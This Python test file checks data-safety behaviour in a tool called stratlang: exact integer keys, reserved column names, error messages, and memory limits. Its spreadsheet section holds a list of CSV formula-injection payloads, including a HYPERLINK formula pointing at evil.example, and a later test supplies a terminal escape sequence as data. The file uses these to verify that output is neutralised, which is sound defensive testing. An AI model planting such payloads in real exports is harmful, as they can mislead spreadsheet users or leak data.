"""Data safety (issue 10): exact keys, spreadsheet-safe lists, reserved column names, clear data
messages (row, line, column), DataError problems, DuckDB memory limit and spill folder, SEG501
text and quiet `sql --dialect bigquery`. User-visible messages go through the real executable."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest
from conftest import write_project

from stratlang.check import check_entry
from stratlang.engine import DataError, run_lists, segment_counts

# end to end (the real executable, a browser, Spark or big inputs): not in `make test-fast`
pytestmark = pytest.mark.slow

STRATLANG = [str(Path(sys.executable).parent / "stratlang")]

HEAD = """
strategy "T" { period 2026-01-01 .. 2026-12-31  locale en }
schema customer {
  id      KEYTYPE key
  age     int
  email   string optional
}
objective F1 "Grow" { perspective financial  target g "g" >= 5% by 2026-12-31 }
channel sms "SMS" { kind sms  capacity unlimited }
script s1 "s" { channel sms  pitch "hi"  opt_out "STOP" }
segment all "All" { rule age >= 0 }
play p "P" { segment all  step 1 sms using s1  supports F1  target t "t" >= 1% by 2026-12-31 }
"""


def run(*args, env=None, cwd=None):
    e = dict(os.environ, NO_COLOR="1")
    e.pop("CI", None)
    e.pop("STRATLANG_MEMORY_LIMIT", None)
    e.update(env or {})
    r = subprocess.run(
        STRATLANG + [str(a) for a in args],
        capture_output=True,
        text=True,
        env=e,
        cwd=cwd,
        timeout=300,
    )
    assert "Traceback" not in r.stderr and "internal error" not in r.stderr, r.stderr
    return r


def project(tmp_path, key="string", head=HEAD):
    entry = write_project(tmp_path, {"main.strat": head.replace("KEYTYPE", key)})
    res = check_entry(entry)
    assert not [d for d in res.diagnostics if d.severity.name == "ERROR"], res.diagnostics
    return entry, res.model


def csv_rows(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def failed(r, out, *needles):
    assert r.returncode == 2, r.stderr
    for n in needles:
        assert n in r.stderr, (n, r.stderr)
    assert not out.exists()
    return r.stderr


# --------------------------------------------------------------------------- (4) exact integer keys

BIG = [
    9007199254740993,
    9007199254740992,
    9223372036854775807,
    -9007199254740993,
    -9223372036854775808,
]


def test_int_keys_above_2_53_stay_exact_csv(tmp_path):
    entry, model = project(tmp_path, key="int")
    data = tmp_path / "c.csv"
    data.write_text(
        "id,age,email\n" + "".join(f"{k},{30 + i},\n" for i, k in enumerate(BIG)), encoding="utf-8"
    )
    out = tmp_path / "lists"
    r = run("lists", entry, "--data", data, "-o", out)
    assert r.returncode == 0, r.stderr
    keys = [row[0] for row in csv_rows(out / "p.csv")[1:]]
    assert sorted(int(k) for k in keys) == sorted(BIG)
    s = run_lists(model, data, out_dir=tmp_path / "pq", fmt="parquet")
    got = duckdb.sql(f"SELECT key FROM read_parquet('{tmp_path / 'pq' / 'p.parquet'}')").fetchall()
    assert sorted(k for (k,) in got) == sorted(BIG) and s.customers == len(BIG)


def test_int_keys_exact_from_parquet_decimal_and_duckdb_hugeint(tmp_path):
    entry, model = project(tmp_path, key="int")
    want = BIG + [12345678901234567890]
    values = lambda t: ", ".join(f"(({k})::{t}, {30 + i})" for i, k in enumerate(want))
    sel = "SELECT id, age, NULL::VARCHAR AS email FROM (VALUES {}) t(id, age)"
    for sql_type, suffix in (
        ("DECIMAL(20,0)", "parquet"),
        ("DECIMAL(38,0)", "parquet"),
        ("HUGEINT", "duckdb"),
        ("VARCHAR", "parquet"),
    ):
        data = tmp_path / f"c-{sql_type[:3]}{sql_type[-3:-1]}.{suffix}"
        if suffix == "parquet":
            duckdb.sql(f"COPY ({sel.format(values(sql_type))}) TO '{data}' (FORMAT parquet)")
        else:  # (DuckDB writes HUGEINT to Parquet as DOUBLE: a DuckDB file keeps it)
            con = duckdb.connect(str(data))
            con.execute(f"CREATE TABLE customer AS {sel.format(values(sql_type))}")
            con.close()
        if sql_type == "VARCHAR":  # text is typed to BIGINT, which cannot hold the last one
            with pytest.raises(DataError) as e:
                run_lists(model, data)
            assert "too large" in str(e.value) and "row 6" in str(e.value)
            continue
        out = tmp_path / f"out-{data.name}"
        run_lists(model, data, out_dir=out, fmt="csv")
        keys = sorted(int(row[0]) for row in csv_rows(out / "p.csv")[1:])
        assert keys == sorted(want), sql_type
        run_lists(
            model, data, out_dir=out, fmt="parquet"
        )  # (DuckDB writes HUGEINT to Parquet as DOUBLE)
        got = duckdb.sql(f"SELECT key FROM read_parquet('{out / 'p.parquet'}')").fetchall()
        assert sorted(int(k) for (k,) in got) == sorted(want), sql_type


def test_hugeint_key_beyond_38_digits_is_an_error(tmp_path):
    _, model = project(tmp_path, key="int")
    data = tmp_path / "c.duckdb"
    con = duckdb.connect(str(data))
    con.execute(
        "CREATE TABLE customer AS SELECT * FROM (VALUES (1::HUGEINT, 30, NULL::VARCHAR), "
        "(170141183460469231731687303715884105727::HUGEINT, 31, NULL)) t(id, age, email)"
    )
    con.close()
    with pytest.raises(DataError) as e:
        run_lists(model, data)
    assert e.value.problems == [
        "column `id`: `170141183460469231731687303715884105727` in row 2 is too large for an "
        "int (at most 38 digits); declare the field `string` if it is an identifier"
    ]


def test_spark_keeps_big_int_keys_exact(tmp_path):
    """Spark receives the typed data from DuckDB: BIGINT and HUGEINT keys arrive and come back exact,
    and its lists equal DuckDB's byte for byte."""
    pytest.importorskip("pyspark")
    from stratlang.engine.spark import get_session

    _, model = project(tmp_path, key="int")
    csv_data = tmp_path / "c.csv"
    csv_data.write_text(
        "id,age,email\n" + "".join(f"{k},{30 + i},\n" for i, k in enumerate(BIG)), encoding="utf-8"
    )
    db_data = tmp_path / "c.duckdb"
    con = duckdb.connect(str(db_data))
    huge = BIG + [12345678901234567890123]
    con.execute(
        "CREATE TABLE customer AS SELECT id, age, NULL::VARCHAR AS email FROM (VALUES "
        + ", ".join(f"(({k})::HUGEINT, {30 + i})" for i, k in enumerate(huge))
        + ") t(id, age)"
    )
    con.close()
    spark = get_session("local[2]")
    for data, want in ((csv_data, BIG), (db_data, huge)):
        for fmt in ("csv", "parquet"):
            d, s = tmp_path / f"duck-{data.suffix}-{fmt}", tmp_path / f"spark-{data.suffix}-{fmt}"
            run_lists(model, data, out_dir=d, fmt=fmt)
            run_lists(model, data, engine="spark", out_dir=s, fmt=fmt, spark_session=spark)
            assert (d / f"p.{fmt}").read_bytes() == (s / f"p.{fmt}").read_bytes(), (data, fmt)
        spark_csv = tmp_path / f"spark-{data.suffix}-csv" / "p.csv"
        assert sorted(int(row[0]) for row in csv_rows(spark_csv)[1:]) == sorted(want)


@pytest.mark.parametrize(
    "rows, problem",
    [
        # `12` and `12.0` are one int key; 2^53 + 1 and 2^53 are two
        (
            "12,30\n9007199254740993,31\n12.0,32\n9007199254740992,33",
            "column `id`: duplicate key `12` in rows 1, 3",
        ),
        # a fraction above 2^53 (equal to an integer as DOUBLE) and hex are not integers; `1e3` is
        (
            "1,30\n2,9007199254740993.5\n3,0x10\n4,1e3",
            "column `age`: `9007199254740993.5` in row 2 is not an integer (2 rows in all)",
        ),
    ],
)
def test_int_values_checked_exactly(tmp_path, rows, problem):
    _, model = project(tmp_path, key="int")
    data = tmp_path / "c.csv"
    data.write_text(
        "id,age,email\n" + "".join(f"{r},\n" for r in rows.split("\n")), encoding="utf-8"
    )
    with pytest.raises(DataError) as e:
        run_lists(model, data)
    assert e.value.problems == [problem]


def test_too_large_int_key_says_so(tmp_path):
    entry, _ = project(tmp_path, key="int")
    data = tmp_path / "c.csv"
    data.write_text("id,age,email\n1,30,\n99999999999999999999,31,\n", encoding="utf-8")
    out = tmp_path / "lists"
    failed(
        run("lists", entry, "--data", data, "-o", out),
        out,
        "column `id`: `99999999999999999999` in row 2 is too large for an int",
        "declare the field `string`",
    )


# --------------------------------------------------------------------------- (5) spreadsheets

HOSTILE = [
    "+8613800000000",
    '=HYPERLINK("http://evil.example/?x","click")',
    "-5",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "#N/A",
    "'quoted",
    "plain",
    "_x0041_",
]


def _hostile_csv(tmp_path):
    data = tmp_path / "c.csv"
    with open(data, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["id", "age", "email"])
        for i, k in enumerate(HOSTILE):
            w.writerow([k, 30 + i, ""])
    return data


def test_xlsx_keeps_keys_exactly_as_text_cells(tmp_path):
    from openpyxl import load_workbook
    from openpyxl.utils.escape import unescape  # OOXML `_xHHHH_`, as Excel reads it

    entry, model = project(tmp_path)
    data = _hostile_csv(tmp_path)
    out = tmp_path / "lists"
    r = run("lists", entry, "--data", data, "-o", out, "--format", "xlsx")
    assert r.returncode == 0, r.stderr
    ws = load_workbook(out / "p.xlsx").active
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    assert sorted(unescape(c.value) for c in cells) == sorted(HOSTILE)
    assert {c.data_type for c in cells} == {"s"}  # no formula, no error cell
    assert {c.number_format for c in cells} == {"@"}


def test_xlsx_int_keys_are_exact_text(tmp_path):
    from openpyxl import load_workbook

    _, model = project(tmp_path, key="int")
    data = tmp_path / "c.csv"
    data.write_text(
        "id,age,email\n" + "".join(f"{k},{30 + i},\n" for i, k in enumerate(BIG)), encoding="utf-8"
    )
    run_lists(model, data, out_dir=tmp_path / "x", fmt="xlsx")
    ws = load_workbook(tmp_path / "x" / "p.xlsx").active
    assert sorted(row[0].value for row in ws.iter_rows(min_row=2)) == sorted(str(k) for k in BIG)


def test_xlsx_refuses_control_characters_cleanly(tmp_path):
    entry, model = project(tmp_path)
    data = tmp_path / "c.csv"
    data.write_text("id,age,email\nok,30,\nbad\x01key,31,\n", encoding="utf-8")
    out = tmp_path / "lists"
    err = failed(
        run("lists", entry, "--data", data, "-o", out, "--format", "xlsx"),
        out,
        "play `p`",
        "--format csv",
    )
    assert "control character" in err


def test_csv_lists_neutralise_formula_prefixes_parquet_does_not(tmp_path):
    entry, model = project(tmp_path)
    data = _hostile_csv(tmp_path)
    out = tmp_path / "lists"
    r = run("lists", entry, "--data", data, "-o", out)
    assert r.returncode == 0, r.stderr
    keys = [row[0] for row in csv_rows(out / "p.csv")[1:]]
    want = sorted(HOSTILE)  # rows stay sorted by the raw key
    assert keys == [
        ("'" + k if k[0] in "=+-@\t\r'" else k) for k in want
    ]  # reversible: strip one `'`
    run_lists(model, data, out_dir=tmp_path / "pq", fmt="parquet")
    got = [
        k
        for (k,) in duckdb.sql(
            f"SELECT key FROM read_parquet('{tmp_path / 'pq' / 'p.parquet'}')"
        ).fetchall()
    ]
    assert got == want


def test_csv_int_keys_are_numbers_not_neutralised(tmp_path):
    _, model = project(tmp_path, key="int")
    data = tmp_path / "c.csv"
    data.write_text("id,age,email\n-5,30,\n7,31,\n", encoding="utf-8")
    run_lists(model, data, out_dir=tmp_path / "o")
    assert [row[0] for row in csv_rows(tmp_path / "o" / "p.csv")[1:]] == ["-5", "7"]


# --------------------------------------------------------------------------- (6) reserved column names

RESERVED = ["rowid", "file_row_number", "__stratlang_row", "filename", "file_index"]


def test_extra_columns_with_reserved_names_csv(tmp_path):
    entry, _ = project(tmp_path)
    data = tmp_path / "c.csv"
    head = ",".join(["id", "age", "email"] + RESERVED)
    rows = ["c1,30,,x,x,x,x,x", "c2,31,,7,7,7,7,7", "c3,abc,,1,1,1,1,1", "c4,33,,0,0,0,0,0"]
    data.write_text(head + "\n" + "\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "lists"
    failed(
        run("lists", entry, "--data", data, "-o", out),
        out,
        "column `age`: `abc` in row 3 is not an integer",
    )
    data.write_text(head + "\n" + "\n".join(rows[:2] + rows[3:]) + "\n", encoding="utf-8")
    r = run("lists", entry, "--data", data, "-o", out)
    assert r.returncode == 0, r.stderr


@pytest.mark.parametrize("fmt", ["parquet", "duckdb"])
def test_extra_columns_with_reserved_names_parquet_and_duckdb(tmp_path, fmt):
    entry, model = project(tmp_path)
    extra = ", ".join(f"i * 100 AS {n}" for n in RESERVED)
    sel = (
        f"SELECT 'c' || i AS id, CASE WHEN i = 3 THEN NULL ELSE 20 + i END AS age, NULL::VARCHAR AS email, "
        f"{extra} FROM range(1, 6) t(i) ORDER BY i"
    )
    if fmt == "parquet":
        data = tmp_path / "c.parquet"
        duckdb.sql(f"COPY ({sel}) TO '{data}' (FORMAT parquet)")
    else:
        data = tmp_path / "c.duckdb"
        con = duckdb.connect(str(data))
        con.execute(f"CREATE TABLE customer AS {sel}")
        con.close()
    with pytest.raises(DataError) as e:
        run_lists(model, data)
    assert e.value.problems == ["column `age`: empty value (NULL) in row 3; `age` is not optional"]


def test_schema_fields_named_like_virtual_columns(tmp_path):
    head = HEAD.replace(
        "email   string optional", "rowid int\n  file_row_number int\n  __stratlang_row int"
    )
    entry, model = project(tmp_path, head=head)
    rows = "".join(f"c{i},{20 + i},{i * 10},{i * 100},{i * 1000}\n" for i in range(1, 6))
    data = tmp_path / "c.csv"
    data.write_text(
        "id,age,rowid,file_row_number,__stratlang_row\n" + rows.replace("c4,24,40", "c4,24,x"),
        encoding="utf-8",
    )
    with pytest.raises(DataError) as e:
        run_lists(model, data)
    assert e.value.problems == ["column `rowid`: `x` in row 4 is not an integer"]
    data.write_text("id,age,rowid,file_row_number,__stratlang_row\n" + rows, encoding="utf-8")
    pq = tmp_path / "c.parquet"
    duckdb.sql(f"COPY (SELECT * FROM read_csv('{data}')) TO '{pq}' (FORMAT parquet)")
    for path in (data, pq):
        assert run_lists(model, path).customers == 5


# --------------------------------------------------------------------------- (8) DataError carries its problems


def test_data_error_has_problems_and_help(tmp_path):
    _, model = project(tmp_path)
    data = tmp_path / "c.csv"
    data.write_text("id,age,email\nc1,abc,\nc1,,\n", encoding="utf-8")
    with pytest.raises(DataError) as e:
        segment_counts(model, data)
    err = e.value
    assert len(err.problems) == 3 and str(err).startswith("3 problems in ")
    assert str(data) in str(err) and err.help
    for bad in (tmp_path / "nope.csv", tmp_path):
        with pytest.raises(DataError) as e:
            segment_counts(model, bad)
        assert e.value.problems == [str(e.value)] and e.value.help


# --------------------------------------------------------------------------- (19) messages naming row and column

HDR = "id,age,email\n"


def test_ragged_row_names_row_line_and_column(tmp_path):
    entry, _ = project(tmp_path)
    data = tmp_path / "c.csv"
    out = tmp_path / "lists"
    data.write_text(HDR + "c1,30,\nc2,31,a,EXTRA\nc3,32,\n", encoding="utf-8")
    err = failed(
        run("lists", entry, "--data", data, "-o", out),
        out,
        "row 2 (line 3) has 4 fields",
        "the header has 3",
        "after column `email`",
    )
    assert "Original Line" not in err and "EXTRA" not in err
    data.write_text(HDR + "c1,30,\nc2,31,\nc3\n", encoding="utf-8")
    failed(
        run("lists", entry, "--data", data, "-o", out),
        out,
        "row 3 (line 4) has 1 field",
        "`age` is missing",
    )
    data.write_text("id,age,email,d,e,f,g,h,i\n1\n2\n", encoding="utf-8")
    failed(
        run("lists", entry, "--data", data, "-o", out),
        out,
        "row 1 (line 2) has 1 field",
        "the header has 9",
    )


def test_ragged_row_after_multiline_field_is_not_silently_dropped(tmp_path):
    entry, _ = project(tmp_path)
    data = tmp_path / "c.csv"
    out = tmp_path / "lists"
    data.write_text('id,age,email\n"c1\nx",1,\nc2,2,\nc3,3,,4\n', encoding="utf-8")
    failed(run("lists", entry, "--data", data, "-o", out), out, "row 3 (line 4) has 4 fields")


def test_non_utf8_file_one_clean_line(tmp_path):
    entry, _ = project(tmp_path)
    data = tmp_path / "gbk.csv"
    out = tmp_path / "lists"
    data.write_bytes((HDR + "c1,30,a@x.com\nc2,31,张三@x.com\n").encode("gbk"))
    err = failed(
        run("lists", entry, "--data", data, "-o", out),
        out,
        "not UTF-8",
        "row 2 (line 3)",
        "column `email`",
        "byte 7",
        "iconv -f GBK -t UTF-8",
    )
    assert "Original Line" not in err and "Possible Solution" not in err
    assert len([ln for ln in err.splitlines() if ln.startswith("error:")]) == 1
    data.write_bytes(("id,age,邮箱\nc1,30,a\n").encode("gbk"))
    failed(
        run("lists", entry, "--data", data, "-o", out),
        out,
        "not UTF-8",
        "the header (line 1)",
        "column 3",
    )


def test_duplicate_header_column_is_an_error(tmp_path):
    entry, _ = project(tmp_path)
    data = tmp_path / "c.csv"
    out = tmp_path / "lists"
    data.write_text("id,age,x,email,age\nc1,30,1,,31\n", encoding="utf-8")
    failed(
        run("lists", entry, "--data", data, "-o", out),
        out,
        "column `age` appears twice in the header",
        "columns 2 and 5",
    )


def test_sql_bigquery_prints_no_warning(tmp_path):
    from conftest import EXAMPLES

    for dialect in ("bigquery", "snowflake", "spark", "trino", "postgres"):
        r = run("sql", EXAMPLES / "bank_wealth" / "main.strat", "--dialect", dialect)
        assert r.returncode == 0 and "not supported" not in r.stderr, (dialect, r.stderr)


def test_seg501_quotes_the_rule_not_its_comments(tmp_path):
    text = HEAD.replace("KEYTYPE", "string").replace(
        'segment all "All" { rule age >= 0 }',
        'segment all "All" { rule age >= 0 and (id is missing  # "keys" are # never missing\n'
        "    or age = 3.5 # ages are whole\n  ) }",
    )
    entry = write_project(tmp_path, {"main.strat": text})
    r = run("check", entry)
    msg = next(ln for ln in (r.stdout + r.stderr).splitlines() if "SEG501" in ln)
    assert "`(id is missing or age = 3.5)` is never true" in msg, msg
    assert "#" not in msg and "whole" not in msg


# --------------------------------------------------------------------------- (13) memory limit and spill folder


def test_memory_limit_env_is_validated(tmp_path):
    entry, _ = project(tmp_path)
    data = tmp_path / "c.csv"
    data.write_text(HDR + "c1,30,\n", encoding="utf-8")
    out = tmp_path / "lists"
    failed(
        run("lists", entry, "--data", data, "-o", out, env={"STRATLANG_MEMORY_LIMIT": "lots"}),
        out,
        "STRATLANG_MEMORY_LIMIT",
        "4GB",
    )


def test_out_of_memory_is_a_data_error_and_spill_folder_is_removed(tmp_path):
    entry, _ = project(tmp_path)
    data = tmp_path / "c.csv"
    duckdb.sql(
        f"COPY (SELECT 'customer-' || i || repeat('x', 60) AS id, i % 90 AS age, "
        f"'e' || i || '@example.com' AS email FROM range(300000) t(i)) TO '{data}' (HEADER)"
    )
    out = tmp_path / "lists"
    spill = tmp_path / "tmp"
    spill.mkdir()
    env = {"STRATLANG_MEMORY_LIMIT": "2MB", "TMPDIR": str(spill)}
    err = failed(
        run("lists", entry, "--data", data, "-o", out, env=env),
        out,
        "out of memory",
        "2MB",
        "STRATLANG_MEMORY_LIMIT",
    )
    assert len([ln for ln in err.splitlines() if ln.startswith("error:")]) == 1
    assert list(spill.iterdir()) == []
    r = run(
        "lists",
        entry,
        "--data",
        data,
        "-o",
        out,
        env={"STRATLANG_MEMORY_LIMIT": "200MB", "TMPDIR": str(spill)},
    )
    assert r.returncode == 0, r.stderr
    assert list(spill.iterdir()) == []
    assert json.loads((out / "summary.json").read_text())["customers"] == 300000


def test_connection_settings():
    from stratlang.engine.duckdb import connect, memory_limit_bytes

    con = connect()
    try:
        folder = Path(con.execute("SELECT current_setting('temp_directory')").fetchone()[0])
        assert folder.name.startswith("stratlang-duckdb-")
        assert (
            con.execute("SELECT current_setting('preserve_insertion_order')").fetchone()[0] is False
        )
        limit = memory_limit_bytes()
        total = os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES")
        assert 0 < limit <= total // 2 + 1
    finally:
        con.close()
    assert not folder.exists()


def test_messages_escape_control_characters_of_the_data(tmp_path):
    entry, _ = project(tmp_path)
    data = tmp_path / "c.csv"
    data.write_text("id,age,email\nc1,\x1b[31mred,\n", encoding="utf-8")
    out = tmp_path / "lists"
    err = failed(
        run("lists", entry, "--data", data, "-o", out),
        out,
        "`\\x1b[31mred` in row 1 is not an integer",
    )
    assert "\x1b" not in err
    data.write_bytes(bytes(range(256)) * 4)
    failed(
        run("lists", entry, "--data", data, "-o", out),
        out,
        "not a text file (a NUL byte on line 1)",
    )


def test_spill_folders_of_killed_runs_are_removed(tmp_path, monkeypatch):
    from stratlang.engine.duckdb import connect

    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setattr("tempfile.tempdir", None)
    p = subprocess.Popen([sys.executable, "-c", "pass"])
    p.wait()  # a process id that is gone
    stale = tmp_path / f"stratlang-duckdb-{p.pid}-abc123"
    alive = tmp_path / f"stratlang-duckdb-{os.getppid()}-def456"
    other = tmp_path / "stratlang-duckdb-notapid"
    for folder in (stale, alive, other):
        folder.mkdir()
    (stale / "duckdb_temp_block-1.block").write_bytes(b"x")
    con = connect()
    try:
        assert con.spill.parent == tmp_path and con.spill.name.startswith(
            f"stratlang-duckdb-{os.getpid()}-"
        )
        assert not stale.exists() and alive.exists() and other.exists()
    finally:
        con.close()
    assert not con.spill.exists()
